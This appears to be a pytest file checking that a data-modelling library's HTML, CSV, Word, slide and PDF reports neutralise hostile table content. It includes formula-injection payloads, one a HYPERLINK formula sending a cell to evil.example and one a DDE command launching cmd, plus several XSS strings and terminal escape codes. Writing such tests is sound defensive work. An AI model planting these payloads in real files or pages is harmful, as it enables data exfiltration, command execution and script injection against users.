"""A table whose names, levels and cells try to be markup, formulas, links or terminal codes stays a table."""

from __future__ import annotations

import csv
import re
import zipfile
from html.parser import HTMLParser

import numpy as np
import pytest

import modelwright
from modelwright.core.costs import Prices
from modelwright.flows.report import report

pytestmark = pytest.mark.slow

NUMBER = '=HYPERLINK("http://evil.example/?"&A1,"pay")'
LEVELS = ("<img src=x onerror=alert(1)>", "@SUM(1+1)*cmd|' /C calc'!A0", "http://evil.example/", "\x1b[31mred\x1b[0m")
CATEGORY = "</style><script>alert(1)</script>"
TEXT = "](javascript:alert(1))"
TARGET, LABELS = '"><svg onload=alert(1)>', ("-2+3", "<b>yes</b>")


@pytest.fixture(scope="module")
def table(tmp_path_factory):
    path = tmp_path_factory.mktemp("hostile") / "hostile.csv"
    rng = np.random.default_rng(0)
    n = 260
    number, level = rng.normal(size=n), rng.integers(0, len(LEVELS), n)
    truth = number + (level == 1) + 0.3 * rng.normal(size=n) > 0.3
    with path.open("w", newline="", encoding="utf-8") as file:
        writer = csv.writer(file)
        writer.writerow([NUMBER, CATEGORY, TEXT, TARGET])
        for i in range(n):
            writer.writerow([f"{number[i]:.4f}", LEVELS[level[i]], f"={i}%7+1", LABELS[int(truth[i])]])
    return path


@pytest.fixture(scope="module")
def model(table, tmp_path_factory):
    out = tmp_path_factory.mktemp("hostile-model") / "=cmd<i>.model"
    return modelwright.train(table, target=TARGET, effort=1, out=str(out), threads=1)


class Tags(HTMLParser):
    """Collects what a browser would make of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.wrong: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.names.add(tag)
        self.wrong += [f"{tag} {k}" for k, _ in attrs if k.startswith("on")]
        for key in ("href", "src", "xlink:href", "action"):
            value = dict(attrs).get(key)
            if value is not None and not value.startswith("#"):
                self.wrong.append(f"{tag} {key}={value}")


def check_page(text: str) -> None:
    found = Tags(text)
    assert found.wrong == []
    assert not found.names & {"script", "img", "iframe", "object", "b", "embed", "base", "form", "link"}
    assert "default-src 'none'" in text
    assert "\x1b" not in text


def test_explanations_and_diagnoses(model, table, tmp_path):
    why, limits = tmp_path / "why.html", tmp_path / "limits.html"
    explained = modelwright.explain(model.path, table, data=table, page_out=why, group_by=[CATEGORY])
    diagnosed = modelwright.diagnose(model.path, table, page_out=limits, threads=1)
    for page in (why, limits):
        check_page(page.read_text())
    for done in (explained, diagnosed):
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", done.summary(60))
    modelwright.explain(model.path, table, data=table, out=tmp_path / "why.csv")
    check_csv(tmp_path / "why.csv")


def check_csv(path, *, heads: bool = True) -> None:
    """What we write ourselves into a CSV file begins no formula; numbers may be below zero."""
    with path.open(encoding="utf-8") as file:
        first, *rows = csv.reader(file)
    for cell in [*(first if heads else []), *(c for row in rows for c in row)]:
        assert not cell.startswith(("=", "+", "@", "\t")), cell
        assert not cell.startswith("-") or re.fullmatch(r"-[\d.e-]+", cell), cell


def test_groups_and_odd_rows(table, tmp_path):
    modelwright.cluster(table, ignore=(TARGET,), out=tmp_path / "groups.csv", report=tmp_path)
    modelwright.anomalies(table, ignore=(TARGET,), out=tmp_path / "odd.csv", false_alarms=0.05, report=tmp_path)
    for name in ("clusters.html", "anomalies.html"):
        check_page((tmp_path / name).read_text())
    for name in ("groups.csv", "odd.csv"):
        check_csv(tmp_path / name)


def test_every_document(model, tmp_path):
    pytest.importorskip("pptx")
    pypdf = pytest.importorskip("pypdf")
    prices = Prices(1, 5, '=HYPERLINK("http://evil.example")')
    files: dict[str, str] = {}
    for kind in ("page", "brief", "document", "slides"):
        files |= report(model.path, kind=kind, out=tmp_path, prices=None if kind == "page" else prices).files
    for name in ("page", "brief"):
        with open(files[name], encoding="utf-8") as file:  # noqa: PTH123 - a path as text
            check_page(file.read())
    for name in ("docx", "slides"):
        with zipfile.ZipFile(files[name]) as archive:
            for part in archive.namelist():
                text = archive.read(part).decode("utf-8", "replace")
                if part.endswith(".rels"):
                    assert 'TargetMode="External"' not in text
                elif part.endswith(".xml") and "/theme" not in part:
                    assert not re.search(r"<w:instrText|<a:hlinkClick|<script|<img", text)
                    assert set(re.findall(r'<w:fldSimple w:instr="([^"]*)"', text)) <= {"PAGE"}
    for page in pypdf.PdfReader(files["pdf"]).pages:
        assert all("/URI" not in str(note.get_object()) for note in page.get("/Annots") or ())
